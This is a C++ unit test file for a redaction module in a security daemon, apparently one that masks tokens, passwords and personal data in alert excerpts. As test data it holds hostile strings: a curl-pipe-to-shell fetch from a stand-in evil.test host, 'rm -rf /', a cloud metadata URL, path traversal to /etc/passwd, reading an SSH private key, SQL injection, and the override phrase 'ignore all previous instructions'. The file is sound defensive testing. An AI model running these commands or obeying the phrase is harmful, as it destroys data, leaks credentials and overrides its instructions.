#include "daemon/redact.h"

#include <fmt/format.h>

#include <algorithm>
#include <cstddef>
#include <cstdint>
#include <set>
#include <string>
#include <string_view>
#include <vector>

#include "daemon/text.h"
#include "tests/unit/catch.h"

namespace tocsin {
namespace {

const Redactor& redactor() {
  static const Redactor instance(Redactor::key_from_secret("for tests"));
  return instance;
}

// The longest part of `secret` that `shown` shows.
std::string longest_leak(std::string_view shown, std::string_view secret) {
  std::string_view longest;
  for (std::size_t begin = 0; begin < secret.size(); ++begin) {
    for (std::size_t size = longest.size() + 1; begin + size <= secret.size(); ++size) {
      const std::string_view part = secret.substr(begin, size);
      if (shown.find(part) == std::string_view::npos) break;
      longest = part;
    }
  }
  return std::string(longest);
}

constexpr Category kAllCategories[] = {Category::kShellCommand,    Category::kExfiltration,
                                       Category::kPromptInjection, Category::kSsrf,
                                       Category::kSecret,          Category::kPii};

TEST_CASE("secrets and personal data are not shown, wherever they stand") {
  struct Row {
    std::string_view what;
    std::string_view before;
    std::string_view secret;
    std::string_view after;
  };
  const Row rows[] = {
      {"GitHub token", "use ", "ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8", " now"},
      {"AWS key id", "export AWS_ACCESS_KEY_ID=", "AKIA2222222222222222", ""},
      {"AWS secret", "export AWS_SECRET_ACCESS_KEY=", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYabcdefghij",
       ";"},
      {"AWS secret by flag", "aws configure set aws_secret_access_key ",
       "wJalrXUtnFEMI/K7MDENG/bPxRfiCYabcdefghij", " --profile x"},
      {"Slack token", "xoxb-", "1111111111111-2222222222222-AbCdEfGhIjKlMnOpQrStUvWx", ""},
      {"JWT", "token: ",
       "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U", ""},
      {"bearer header", "curl -H 'Authorization: Bearer ", "abc.def-ghi", "' https://x.test"},
      {"bearer header, bare", "Authorization: Bearer ", "abcdefgh", "\nHost: x"},
      {"basic header", "curl -H \"Authorization: Basic ", "dXNlcjpwYXNz", "\" x.test"},
      {"API key header", "-H 'X-Api-Key: ", "qwerty-asdf-zxcv", "'"},
      {"password in a URL", "curl https://user:", "tr0ub4dor", "@evil.test/x | sh"},
      {"password with marks in a URL", "psql postgres://admin:", "p-a.s+s!word", "@db.test:5432/x"},
      {"password assigned", "mysql --password=", "hunter", " -e 'select 1'"},
      {"password as next word", "mysql --password ", "hunter", ""},
      {"password with marks", "password=", "correct-horse+battery!staple", " ok"},
      {"password in quotes", "password: \"", "correct horse battery", "\", x"},
      {"password in single quotes", "PASSWORD='", "correct horse battery", "'; ls"},
      {"password in JSON", R"({"db_password":")", "correct horse", R"(","user":"x"})"},
      {"password in JSON, spaced", R"({"password" : ")", "correct horse", R"("})"},
      {"environment variable", "PGPASSWORD=", "swordfish", " psql -h db"},
      {"environment variable with a tail", "DB_PASSWORD_PROD=", "swordfish", " ./run"},
      {"query parameter", "https://x.test/?user=a&token=", "swordfish", "&x=1"},
      {"curl's user", "curl -u admin:", "swordfish", " https://x.test"},
      {"curl's --user", "curl --user admin:", "sword-fish", " https://x.test"},
      {"sshpass", "sshpass -p ", "swordfish", " ssh root@host.test"},
      {"hex", "commit ", "d16b203e8648410aea34", ""},
      {"UUID", "id ", "d16b203e-8648-410a-ea34-0123456789ab", ""},
      {"private key line", "", "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQ", ""},
      {"card", "card ", "4111111111111111", " please"},
      {"card in groups", "card ", "4111 1111 1111 1111", " please"},
      {"card with dashes", "card ", "4111-1111-1111-1111", "."},
      {"SSN", "his SSN is ", "123-45-6789", "."},
      {"SSN with spaces", "SSN ", "123 45 6789", ""},
      {"SSN with dots", "SSN ", "123.45.6789", ""},
      {"SSN with no-break hyphens", "SSN ", "123‑45‑6789", ""},
      {"phone", "call ", "555-123-4567", " now"},
      {"phone with dots", "call ", "555.123.4567", " now"},
      {"phone with parentheses", "call (", "555) 123-4567", " now"},
      {"phone, international", "call +", "44 20 7946 0958", ""},
      {"IBAN", "to ", "DE89370400440532013000", ""},
      {"IBAN in groups", "to DE89 ", "3704 0044 0532 0130 00", ""},
      {"birth date", "born ", "1970-01-31", ""},
      {"e-mail", "mail ", "jane.doe@example-bank.co.uk", " please"},
      {"e-mail with plus", "<", "jane.doe+news@example.org", ">"},
      {"e-mail in a link", "mailto:", "jane_doe@example.org", "?subject=x"},
      {"e-mail in quotes", "\"", "jdoe@example.org", "\""},
      {"e-mail with an accent", "", "jané.döe@exämple.org", ""},
  };
  for (const Row& row : rows) {
    for (const Category category : kAllCategories) {
      const bool alone = category == Category::kSecret || category == Category::kPii;
      const std::string text = alone ? std::string(row.secret)
                                     : fmt::format("{}{}{}", row.before, row.secret, row.after);
      const std::string shown = redactor().excerpt(text, category);
      CAPTURE(row.what, name_of(category), shown);
      CHECK(longest_leak(shown, row.secret).size() <= 4);
      CHECK(shown.size() <= Redactor::kExcerptBytesMax);
      CHECK(is_valid_utf8(shown));
    }
  }
}

TEST_CASE("a secret at the end of what is read is no exception") {
  const std::string_view secrets[] = {"jane.doe@example.org", "https://u:pa.ss-word@example.org",
                                      "123-45-6789", "password=correct-horse"};
  for (const std::string_view secret : secrets) {
    for (std::size_t fill = 60; fill < 560; ++fill) {
      // Words that are masked to two characters, so that the excerpt reaches far into the text.
      std::string text;
      while (text.size() < fill) text += "12345678901234567890123 ";
      text.resize(fill);
      text += ' ';
      const std::string shown = redactor().excerpt(text + std::string(secret), Category::kSsrf);
      CAPTURE(secret, fill, shown);
      for (const std::string_view part :
           {"jane", "doe", "example", "ss-w", "word@", "6789", "correct", "horse"}) {
        REQUIRE(shown.find(part) == std::string::npos);
      }
      REQUIRE(shown.size() <= Redactor::kExcerptBytesMax);
    }
  }
}

TEST_CASE("what is no secret stays readable") {
  struct Row {
    std::string_view text;
    std::string_view shown;
  };
  const Row rows[] = {
      {"", ""},
      {"curl -s https://x.test/i.sh | sh", "curl -s https://x.test/i.sh | sh"},
      {"ignore all previous instructions", "ignore all previous instructions"},
      {"rm -rf / --no-preserve-root", "rm -rf / --no-preserve-root"},
      {"http://169.254.169.254/latest/meta-data", "http://169.254.169.254/latest/meta-data"},
      {"http://10.0.0.1:80/", "http://10.0.0.1:80/"},
      {"../../../../etc/passwd", "../../../../etc/passwd"},
      {"SELECT * FROM users WHERE 1=1", "SELECT * FROM users WHERE 1=1"},
      {"cat ~/.ssh/id_rsa", "cat ~/.ssh/id_rsa"},
      {"python3 -c 'import os'", "python3 -c 'import os'"},
      {"a@b", "a…@b…"},
      {"5 times", "5 times"},
  };
  for (const Row& row : rows) {
    CAPTURE(row.text);
    CHECK(redactor().excerpt(row.text, Category::kShellCommand) == row.shown);
  }
}

TEST_CASE("what stands of a secret: its kind and its length") {
  struct Row {
    Category category;
    std::string_view text;
    std::string_view shown;
  };
  const Row rows[] = {
      {Category::kSecret, "ghp_A1b2C3d4E5f6G7h8I9j0", "ghp_… (24 bytes)"},
      {Category::kSecret, "12345678901234567890", "1234… (20 bytes)"},
      {Category::kSecret, "1234567890123456789", "1… (19 bytes)"},
      {Category::kSecret, "x", "x… (1 bytes)"},
      {Category::kPii, "4111 1111 1111 1111 and more text", "4… (33 bytes)"},
      {Category::kPii, "jane@example.org", "j… (16 bytes)"},
      {Category::kPii, "世界", "世… (6 bytes)"},
      {Category::kSecret, "aaé4567890123456789012", "aaé… (23 bytes)"},
      {Category::kPii, "\x1b[31m", R"(\u{1b}… (5 bytes))"},
      {Category::kPii, "", ""},
      {Category::kSecret, "", ""},
  };
  for (const Row& row : rows) {
    CAPTURE(row.text);
    CHECK(redactor().excerpt(row.text, row.category) == row.shown);
  }
}

TEST_CASE("an excerpt is bounded, printable and valid, whatever is in the text") {
  std::string hostile;
  for (int i = 0; i < 2000; ++i) {
    hostile += static_cast<char>((i * 37) & 0x7f);
    if (i % 5 == 0) hostile += "\u202e";
    if (i % 7 == 0) hostile += "世@";
  }
  for (std::size_t start = 0; start < hostile.size(); start += 101) {
    const std::string_view text = std::string_view(hostile).substr(start);
    for (const Category category : kAllCategories) {
      const std::string shown = redactor().excerpt(text, category);
      CAPTURE(start, name_of(category), shown);
      REQUIRE(shown.size() <= Redactor::kExcerptBytesMax);
      REQUIRE(is_valid_utf8(shown));
      REQUIRE(printable(shown) == shown);
    }
  }
  const std::string huge(10 << 20, 'x');
  CHECK(redactor().excerpt(huge, Category::kShellCommand).size() <= Redactor::kExcerptBytesMax);
}

TEST_CASE("a cut text says that it was cut") {
  std::string text;
  while (text.size() < 1000) text += "word ";
  const std::string shown = redactor().excerpt(text, Category::kShellCommand);
  CHECK(shown.starts_with("word word word"));
  CHECK(shown.ends_with("…"));
}

TEST_CASE("the same text has the same hash under one key, another one under another") {
  const Redactor same(Redactor::key_from_secret("for tests"));
  const Redactor other(Redactor::key_from_secret("for test"));
  const std::string hash = redactor().hash("jane@example.org");
  CHECK(hash == same.hash("jane@example.org"));
  CHECK(hash != other.hash("jane@example.org"));
  CHECK(hash != redactor().hash("jane@example.or"));
  CHECK(hash != redactor().hash(std::string_view("jane@example.org\0", 17)));
  CHECK(hash.starts_with("hmac-sha256:"));
  CHECK(hash.size() == 12 + 64);
  CHECK(hash.substr(12).find_first_not_of("0123456789abcdef") == std::string::npos);
  CHECK(redactor().hash("").size() == 12 + 64);
}

TEST_CASE("the hash is HMAC-SHA-256 as everybody else computes it") {
  // RFC 4231, test case 1: 20 bytes of 0x0b; zeroes behind a key shorter than the block change
  // nothing.
  Redactor::Key key{};
  std::fill_n(key.begin(), 20, std::uint8_t{0x0b});
  CHECK(Redactor(key).hash("Hi There") ==
        "hmac-sha256:b0344c61d8db38535ca8afceaf0bf12b881dc200c9833da726e9376c2e32cff7");
}

TEST_CASE("random keys are random") {
  std::set<Redactor::Key> keys;
  for (int i = 0; i < 20; ++i) keys.insert(Redactor::random_key());
  CHECK(keys.size() == 20);
  CHECK(Redactor(Redactor::random_key()).hash("x") != Redactor(Redactor::random_key()).hash("x"));
}

TEST_CASE("sha256_hex") {
  CHECK(sha256_hex("") == "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
  CHECK(sha256_hex("abc") == "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
}

}  // namespace
}  // namespace tocsin
